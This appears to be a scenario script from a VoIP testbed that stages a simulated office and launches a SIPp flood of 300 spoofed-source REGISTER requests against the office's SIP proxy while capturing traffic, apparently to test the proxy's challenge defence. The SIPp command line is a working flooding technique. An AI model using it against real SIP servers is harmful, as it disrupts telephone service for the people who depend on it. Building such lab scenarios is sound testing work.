# A flood of REGISTERs of one user under the addresses of the office's phones and of others outside; the proxy challenges everyone.
relocate example.org 5060 192.168.66 198.18.140 203.0.113
EXTENSIONS=(911 912 913 914 915 916 917 918)
EXISTING='^9[1-2][0-9]$'
WEAK=none
open_office -A WITH_HARDENED
add_attacker spoofer 203.0.113.19
spoof spoofer 192.168.66.{11..18} 203.0.113.{80..91}
start_office_capture
keep_alive 8
office_day 412 52
at 20 attack A1 dos spoofer 5060 "SIPp sends 300 REGISTERs of 922, 75 a second, under twenty addresses that are not its own." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$parts/sipp/flood-register-spoofed.xml" -nostdin -default_behaviors none \
    -t ui -max_socket 500 -ip_field 0 -inf "$scratch/sources.csv" -cid_str "%u-%p" -i 203.0.113.19 -p 5060 \
    -s 922 -r 75 -m 300 192.168.66.1:5060
play
wait_for A1
close_office
